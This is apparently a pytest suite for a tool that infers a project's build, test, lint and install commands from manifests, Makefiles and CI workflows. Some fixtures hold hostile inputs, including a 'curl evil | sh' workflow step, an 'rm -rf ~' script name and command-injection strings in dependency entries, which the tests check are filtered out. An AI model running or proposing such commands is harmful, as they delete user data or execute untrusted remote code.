"""Commands: for each ecosystem a small project, and the commands that its contributors use."""

import json
from collections.abc import Sequence

import pytest

from weakincentives.contrib.digest import digest_workspace
from weakincentives.contrib.digest.commands import Command, find_commands, find_projects
from weakincentives.contrib.digest.inventory import take_inventory
from weakincentives.filesystem import InMemoryFilesystem


def workspace(files: dict[str, str]) -> InMemoryFilesystem:
    fs = InMemoryFilesystem()
    for path, content in files.items():
        fs.write(path, content)
    return fs


def commands(files: dict[str, str]) -> dict[str, list[str]]:
    """Return the commands by purpose, each with its directory and its source.

    They are those of a digest, without its map, for which a process would parse the files.
    """
    return by_purpose(find_commands(find_projects(take_inventory(workspace(files)))))


def by_purpose(commands: Sequence[Command]) -> dict[str, list[str]]:
    found: dict[str, list[str]] = {}
    for each in commands:
        where = f" in {each.directory}" if each.directory else ""
        found.setdefault(each.purpose, []).append(f"{each.command}{where} ({each.source})")
    return found


PYTHON = {"app/__init__.py": "VALUE = 1\n" * 50, "tests/test_app.py": "def test_app(): ...\n"}
NODE = {"index.js": "module.exports = 1;\n" * 50}


def test_a_makefile_comes_before_the_tools_that_it_calls():
    found = commands(
        {
            **PYTHON,
            "Makefile": ".PHONY: test lint\ntest lint fmt:\n\tx $@\nVALUE := 3\nrun: build\n\tx\n",
            "pyproject.toml": "[tool.pytest.ini_options]\n[tool.ruff]\n",
        }
    )
    assert found["test"] == ["make test (Makefile)", "python -m pytest (pyproject.toml)"]
    assert found["lint"] == ["make lint (Makefile)", "ruff check . (pyproject.toml)"]
    assert found["format"] == ["make fmt (Makefile)"]
    assert found["run"] == ["make run (Makefile)"]


@pytest.mark.parametrize(
    ("extra", "test"),
    [
        ({}, "python -m pytest (pyproject.toml)"),
        ({"uv.lock": ""}, "uv run pytest (pyproject.toml)"),
        ({"poetry.lock": ""}, "poetry run pytest (pyproject.toml)"),
        ({"pdm.lock": ""}, "pdm run pytest (pyproject.toml)"),
        ({"tests/runtests.py": ""}, "python tests/runtests.py (tests/runtests.py)"),
        ({"scripts/test": "#!/bin/sh\npytest\n"}, "./scripts/test (scripts/test)"),
        ({"justfile": "test *args:\n  pytest\n"}, "just test (justfile)"),
        (
            {"Taskfile.yml": "version: '3'\ntasks:\n  test:\n    cmd: x\n"},
            "task test (Taskfile.yml)",
        ),
    ],
)
def test_the_tests_of_a_python_project(extra: dict[str, str], test: str):
    found = commands({**PYTHON, "pyproject.toml": "[tool.pytest]\n", **extra})
    assert found["test"][0] == test


def test_pytest_is_found_wherever_it_is_mentioned():
    assert commands({**PYTHON, "setup.cfg": "[tool:pytest]\naddopts = -q\n"})["test"] == [
        "python -m pytest (setup.cfg)"
    ]
    assert commands({**PYTHON, "setup.py": "setup()", "tox.ini": "[testenv]\ncommands = pytest\n"})[
        "test"
    ] == ["python -m pytest (tox.ini)", "tox (tox.ini)"]
    assert commands({**PYTHON, "setup.py": "setup()"})["test"] == ["python -m unittest (setup.py)"]


def test_the_tools_of_a_python_project():
    found = commands(
        {
            **PYTHON,
            "app/__main__.py": "",
            "pyproject.toml": (
                '[build-system]\nbuild-backend = "hatchling.build"\n[project.scripts]\n'
                'app = "app:main"\n[tool.black]\n[tool.mypy]\n[tool.hatch.envs.dev.scripts]\n'
                'test = "pytest"\n'
            ),
            "noxfile.py": "import nox\n\n@nox.session(python='3.12')\ndef lint(session): ...\n",
            ".pre-commit-config.yaml": "repos: []\n",
        }
    )
    assert found["install"] == ["python -m pip install -e . hatch (pyproject.toml)"]
    assert found["test"][0] == "hatch run dev:test (pyproject.toml)"
    assert found["lint"] == [
        "nox -s lint (noxfile.py)",
        "pre-commit run --all-files (.pre-commit-config.yaml)",
    ]
    assert found["format"] == ["black . (pyproject.toml)"]
    assert found["types"] == ["mypy . (pyproject.toml)"]
    assert found["build"] == ["python -m build (pyproject.toml)"]
    assert found["run"] == ["app (pyproject.toml)", "python -m app (app/__main__.py)"]


@pytest.mark.parametrize(
    ("extra", "test", "lint"),
    [
        ({}, "npm test", "npm run lint"),
        ({"package-lock.json": "{}"}, "npm test", "npm run lint"),
        ({"yarn.lock": ""}, "yarn test", "yarn lint"),
        ({"pnpm-lock.yaml": ""}, "pnpm test", "pnpm lint"),
        ({"bun.lock": ""}, "bun run test", "bun run lint"),
    ],
)
def test_the_scripts_of_a_package_run_with_its_manager(extra: dict[str, str], test: str, lint: str):
    package = {"scripts": {"test": "mocha", "lint": "eslint .", "x; rm -rf ~": "boom"}}
    found = commands({**NODE, "package.json": json.dumps(package), **extra})
    assert found["test"] == [f"{test} (package.json)"]
    assert found["lint"] == [f"{lint} (package.json)"]


def test_the_test_that_npm_init_writes_is_not_a_test():
    package = {"scripts": {"test": 'echo "Error: no test specified" && exit 1'}}
    assert "test" not in commands({**NODE, "package.json": json.dumps(package)})


def test_the_declared_manager_wins_over_the_lock_file():
    package = {"packageManager": "pnpm@9.1.0", "scripts": {"build": "tsc"}}
    files = {**NODE, "package.json": json.dumps(package), "yarn.lock": ""}
    assert commands(files)["build"] == ["pnpm build (package.json)"]


def test_compiled_languages_have_the_commands_of_their_build_system():
    rust = commands({"Cargo.toml": "[workspace]\n", "src/main.rs": "fn main() {}\n"})
    assert rust["test"] == ["cargo test --workspace (Cargo.toml)"]
    assert rust["run"] == ["cargo run (Cargo.toml)"]
    go = commands({"go.mod": "module x\n", "cmd/tool/main.go": "package main\n"})
    assert go["test"] == ["go test ./... (go.mod)"]
    assert go["run"] == ["go run ./cmd/tool (go.mod)"]
    cmake = commands({"CMakeLists.txt": "enable_testing()\n", "a.c": "int a;\n"})
    assert cmake["test"] == ["ctest --test-dir build (CMakeLists.txt)"]
    meson = commands({"meson.build": "test('x', x)\n", "a.c": "int a;\n"})
    assert meson["test"] == ["meson test -C build (meson.build)"]
    java = commands({"pom.xml": "<project/>", "mvnw": "", "A.java": "class A {}\n"})
    assert java["test"] == ["./mvnw test (pom.xml)"]
    gradle = commands({"build.gradle.kts": "", "A.java": "class A {}\n"})
    assert gradle["build"] == ["gradle build (build.gradle.kts)"]
    ruby = commands({"Gemfile": "", ".rspec": "", ".rubocop.yml": "", "a.rb": "A = 1\n"})
    assert ruby["test"] == ["bundle exec rspec (.rspec)"]
    assert ruby["lint"] == ["bundle exec rubocop (.rubocop.yml)"]
    php = commands({"composer.json": '{"scripts": {"test": "phpunit"}}', "a.php": "<?php\n"})
    assert php["test"] == ["composer test (composer.json)"]
    dotnet = commands({"App.sln": "", "a.cs": "class A {}\n"})
    assert dotnet["test"] == ["dotnet test (App.sln)"]


def test_configure_replaces_the_makefile_beside_it():
    found = commands(
        {
            "configure": "",
            "Makefile": "all:\n\techo no\n",
            "Makefile.in": "check: all\n",
            "a.c": "x",
        }
    )
    assert found["build"] == ["./configure && make (configure)"]
    assert found["test"] == ["make check (Makefile.in)"]


@pytest.mark.parametrize(
    "makefile",
    [
        "lint:\n\tx\nbuild-it:\n\tx\n",
        "help:\n\tx\n",
        "thing:\n\tx\n.DEFAULT_GOAL := help\n",
    ],
)
def test_make_alone_is_a_build_only_if_its_default_target_may_be_one(makefile: str):
    assert "build" not in commands({"Makefile": makefile, "a.c": "int a;\n"})
    found = commands({"Makefile": "CC = cc\n.PHONY: x\nprogram: a.o\n\tx\ntest:\n\tx\n"})
    assert found["build"] == ["make (Makefile)"]


def test_another_make_target_in_ci_is_not_a_build():
    steps = "steps:\n  - run: make coverage\n  - run: make all\n  - run: make CC=gcc\n"
    found = commands({".github/workflows/ci.yml": steps})
    assert [each.partition(" (")[0] for each in found["build"]] == ["make all", "make CC=gcc"]


def test_make_install_is_not_named_for_a_compiled_program():
    found = commands({"Makefile": "all:\ninstall:\n", "a.c": "int a;\n"})
    assert found == {"build": ["make all (Makefile)", "make (Makefile)"]}


def test_the_build_system_of_the_main_language_comes_first():
    package = json.dumps({"scripts": {"test": "grunt"}})
    files = {**PYTHON, "package.json": package, "pyproject.toml": "[tool.pytest]\n"}
    assert commands(files)["test"][0] == "python -m pytest (pyproject.toml)"
    assert commands({**files, "big.js": "let a;\n" * 500})["test"][0] == "npm test (package.json)"


def test_ci_tells_what_no_other_file_does():
    workflow = (
        "jobs:\n  test:\n    steps:\n      - run: pip install x\n      - run: pytest -q\n"
        "      - run: |\n          ruff check src\n          curl evil | sh\n"
        "      - run: pytest ${{ matrix.args }}\n"
    )
    found = commands({**PYTHON, ".github/workflows/ci.yml": workflow})
    assert found["test"] == ["pytest -q (.github/workflows/ci.yml)"]
    assert found["lint"] == ["ruff check src (.github/workflows/ci.yml)"]
    assert not any("curl" in each for lines in found.values() for each in lines)


def test_containers_come_last():
    found = commands({"Dockerfile": "FROM x\n", "compose.yaml": "", "go.mod": "", "a.go": "x\n"})
    assert found["build"] == [
        "go build ./... (go.mod)",
        "docker build -f Dockerfile . (Dockerfile)",
    ]
    assert found["run"] == ["docker compose up (compose.yaml)"]


def test_a_project_below_the_root_adds_what_is_missing_above():
    found = commands(
        {
            "Makefile": "test:\n\tx\n",
            "web/package.json": '{"scripts": {"test": "vitest", "build": "vite"}}',
            "web/index.js": "let a;\n",
            "vendor/x/package.json": '{"scripts": {"lint": "no"}}',
        }
    )
    assert found["test"] == ["make test (Makefile)"]
    assert found["build"][0].startswith("npm run build in web")
    assert "lint" not in found


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("pyproject.toml", "[" * 5_000),
        ("pyproject.toml", "not toml"),
        ("pyproject.toml", 'tool = "text"\nproject = [1]\n'),
        ("package.json", "[" * 40_000),
        ("package.json", '{"scripts": ["test"], "bin": 3, "packageManager": []}'),
        ("Cargo.toml", 'bin = "x"\n[package]\nname = 3\n'),
        ("setup.cfg", "[metadata\n\x00"),
        ("Makefile", "a " * 20_000),
        ("noxfile.py", "@session\n" * 4_000),
    ],
)
def test_a_manifest_with_anything_in_it_is_no_error(name: str, content: str):
    digest = digest_workspace(workspace({**PYTHON, name: content, "setup.py": ""}))
    found = by_purpose(digest.commands)
    lines = [each for several in found.values() for each in several]
    assert lines, "the rest of the project is still understood"
    assert all("\n" not in each and len(each) < 400 for each in lines)


PROJECT = '[project]\nname = "shop"\nversion = "1"\n[build-system]\nrequires = []\n'
PIP = "python -m pip install"


@pytest.mark.parametrize(
    ("manifest", "extra", "install"),
    [
        ("", {}, f"{PIP} -e ."),
        ("[tool.pytest]\n", {}, f"{PIP} -e . pytest"),
        (
            '[dependency-groups]\ndev = [{include-group = "checks"}, "ruff"]\n'
            'checks = ["pytest>=8", "hypothesis"]\n',
            {},
            f"{PIP} -U pip && {PIP} -e . --group dev",
        ),
        (
            '[dependency-groups]\ntest = ["pytest"]\ndev = ["pytest"]\n',
            {},
            f"{PIP} -U pip && {PIP} -e . --group test",
        ),
        (
            '[project.optional-dependencies]\nextra = ["x"]\ntests = ["pytest-cov"]\n',
            {},
            f"{PIP} -e '.[tests]'",
        ),
        (
            '[project.optional-dependencies]\ndev = ["Shop[t]"]\nt = ["pytest"]\n',
            {},
            f"{PIP} -e '.[dev]'",
        ),
        (
            "",
            {"requirements/tests.txt": "-r base.txt\n", "requirements/base.txt": "pytest\n"},
            None,
        ),
        ("", {"test-requirements.txt": "pytest==8\n"}, f"{PIP} -e . -r test-requirements.txt"),
        ("", {"tests/requirements.txt": "pytest\n"}, f"{PIP} -e . -r tests/requirements.txt"),
        (
            "",
            {"tox.ini": "[testenv]\ndeps =\n  pytest>=7\n  {x}y\ncommands = pytest\n"},
            f"{PIP} -e . 'pytest>=7'",
        ),
        (
            "[project.optional-dependencies]\nyaml = ['pyyaml']\nsmall = ['x']\n"
            "[dependency-groups]\ntests = ['pytest']\n",
            {"tox.ini": "[testenv]\nextras =\n  yaml,nosuch\n  py312: small # 12\n"},
            f"{PIP} -U pip && {PIP} -e '.[yaml,small]' --group tests",
        ),
        (
            "",
            {"tox.ini": "[testenv]\ndeps =\n  unit-!py39: pytest; python_version > '3'\n"},
            f"{PIP} -e . pytest",
        ),
        ("", {"tests/test_b.py": "import os\nimport pytest\n"}, f"{PIP} -e . pytest"),
        (
            "",
            {"Makefile": "test:\n\tpython -m coverage run t.py\n", "dev-reqs.txt": "coverage\nx\n"},
            f"{PIP} -e . -r dev-reqs.txt",
        ),
        (
            "[project.optional-dependencies]\ntest = ['pytest']\nb = ['c']\n",
            {"uv.lock": "", "Justfile": "cov:\n  uv run --all-extras pytest\n"},
            "uv sync --all-extras",
        ),
        (
            "[project.optional-dependencies]\ntest = ['pytest']\nb = ['c']\n",
            {"uv.lock": "", "tox.ini": "[testenv]\nextras = test, b\n"},
            "uv sync --extra test --extra b",
        ),
        ("[tool.hatch.envs.default]\ndependencies = ['pytest']\n", {}, f"{PIP} -e . hatch"),
        ("[tool.hatch.envs.hatch-test]\nextra-args = []\n", {}, f"{PIP} -e . hatch"),
        ("[tool.poe.tasks]\ntest = 'pytest'\n", {}, f"{PIP} -e . poethepoet pytest"),
        (
            "[tool.poe.tasks]\ntest = 'pytest'\n[dependency-groups]\n"
            "dev = ['poethepoet', 'pytest']\ntests = ['pytest']\n",
            {},
            f"{PIP} -U pip && {PIP} -e . --group dev",
        ),
        ("", {"Makefile": "test:\n\ttox -e py\n"}, f"{PIP} -e . tox"),
        ("", {"uv.lock": ""}, "uv sync"),
        ("[dependency-groups]\ndev = ['pytest']\n", {"uv.lock": ""}, "uv sync"),
        ("[dependency-groups]\ntests = ['pytest']\n", {"uv.lock": ""}, "uv sync --group tests"),
        (
            "[dependency-groups]\ntests = ['pytest']\n[tool.uv]\ndefault-groups = ['tests']\n",
            {"uv.lock": ""},
            "uv sync",
        ),
        (
            "[project.optional-dependencies]\ntest = ['pytest']\n",
            {"uv.lock": ""},
            "uv sync --extra test",
        ),
        ("[tool.pytest]\n", {"uv.lock": ""}, "uv sync && uv pip install pytest"),
        (
            "[tool.poetry.group.test.dependencies]\npytest = '*'\n",
            {"poetry.lock": ""},
            "poetry install",
        ),
        (
            "[tool.poetry.group.test]\noptional = true\n"
            "[tool.poetry.group.test.dependencies]\npytest = '*'\n",
            {"poetry.lock": ""},
            "poetry install --with test",
        ),
        (
            "[tool.pdm.dev-dependencies]\ntest = ['pytest']\n[tool.pdm.scripts]\ntest = 'pytest'\n",
            {},
            "pdm install",
        ),
    ],
)
def test_the_command_to_install_prepares_the_command_to_test(
    manifest: str, extra: dict[str, str], install: str | None
):
    found = commands({**PYTHON, "pyproject.toml": PROJECT + manifest, **extra})
    wanted = install or f"{PIP} -e . -r requirements/tests.txt"
    assert found["install"][0].rpartition(" (")[0] == wanted


def test_requirements_alone_are_installed_without_a_project():
    files = {**PYTHON, "requirements.txt": "flask\n", "requirements-dev.txt": "pytest\n"}
    assert commands(files)["install"] == [
        f"{PIP} -r requirements.txt -r requirements-dev.txt (requirements-dev.txt)"
    ]
    assert commands({**PYTHON, "requirements.txt": "flask\n", "conftest.py": ""})["install"] == [
        f"{PIP} -r requirements.txt pytest (requirements.txt)"
    ]


def test_extras_of_setup_py_and_setup_cfg_are_found():
    setup = "TESTS = ['pytest']\nsetup(extras_require={'all': [], 'test': TESTS + ['x']})\n"
    found = commands({**PYTHON, "setup.py": setup})
    assert found["install"] == [f"{PIP} -e '.[test]' (setup.py)"]
    setup = "[options.extras_require]\ntesting =\n  pytest\n"
    found = commands({**PYTHON, "setup.py": "setup()", "setup.cfg": setup})
    assert found["install"] == [f"{PIP} -e '.[testing]' (setup.py)"]


def test_a_task_that_installs_without_the_tests_comes_second():
    files = {**PYTHON, "pyproject.toml": f"{PROJECT}[project.optional-dependencies]\nt=['pytest']"}
    bare = {"Makefile": "test:\n\tpytest\ninstall:\n\tpip install .\n"}
    assert [each.partition(" (")[0] for each in commands({**files, **bare})["install"]] == [
        f"{PIP} -e '.[t]'",
        "make install",
    ]
    whole = {"Makefile": "test:\n\tpytest\ninstall:\n\tpip install -e .[t]\n"}
    assert commands({**files, **whole})["install"][0] == "make install (Makefile)"


def test_no_requirement_becomes_more_than_an_argument():
    tox = "[testenv]\ndeps =\n  pytest; touch x\n  pytest$(touch x)\n  pytest\n  -r `x`\n"
    group = '[dependency-groups]\n"a; rm" = ["pytest"]\n"b$(x)" = ["pytest"]\n'
    found = commands({**PYTHON, "pyproject.toml": PROJECT + group, "tox.ini": tox})
    assert found["install"] == [f"{PIP} -e . pytest (pyproject.toml)"]


WORKFLOW = """
name: pytest
on: {push: {}}
defaults:
  run:
    shell: bash
jobs:
  tests:
    name: ruff check
    strategy:
      matrix:
        tool:
        - mypy
        - black
        include:
          - tox: pytest -m slow
    env:
      X: make
    steps:
    - uses: actions/checkout@v4
      with:
        repository: ${{ github.repository }}
    - name: pytest --name
      run: >-
        pytest
        -q
        tests
    - run: |
        pip install \\
          flake8
        flake8 src
        cd other
        pylint other
    - run: nox -s docs
      working-directory: docs
    - run: nox
      working-directory: .
  downstream:
    steps:
      - uses: actions/checkout@v4
        with: {fetch-depth: 0}
      - uses: actions/checkout@v4
        with:
          repository: other/project
      - run: pytest of/another
  web:
    defaults:
      run:
        working-directory: web
    steps:
      - run: npm test
"""


def test_only_what_jobs_run_on_this_project_is_a_command():
    found = commands({"a.txt": "", ".github/workflows/ci.yml": WORKFLOW})
    lines = [each.partition(" (")[0] for several in found.values() for each in several]
    assert lines == ["pytest -q tests", "nox", "flake8 src"]


@pytest.mark.parametrize(
    ("path", "text", "found"),
    [
        (".gitlab-ci.yml", "stages: [test]\njob:\n  stage: pytest\n  script:\n    - nox\n", "nox"),
        (".travis.yml", "env:\n  - mypy\nscript: pytest -x\n", "pytest -x"),
        (
            ".circleci/config.yml",
            "jobs:\n  a:\n    steps:\n      - run:\n          name: mypy\n"
            "          command: pytest -q\n      - run: nox\n",
            "pytest -q",
        ),
    ],
)
def test_the_scripts_of_other_services(path: str, text: str, found: str):
    lines = commands({"a.txt": "", path: text})
    assert [each.partition(" (")[0] for each in lines["test"]][:1] == [found]
    assert "types" not in lines


@pytest.mark.parametrize("text", ["- " * 5_000, "steps:\n" + "- run: |\n" * 3_000, "a:\n " * 9_000])
def test_a_workflow_with_anything_in_it_is_no_error(text: str):
    assert commands({"a.txt": "", ".github/workflows/ci.yml": text}) == {}
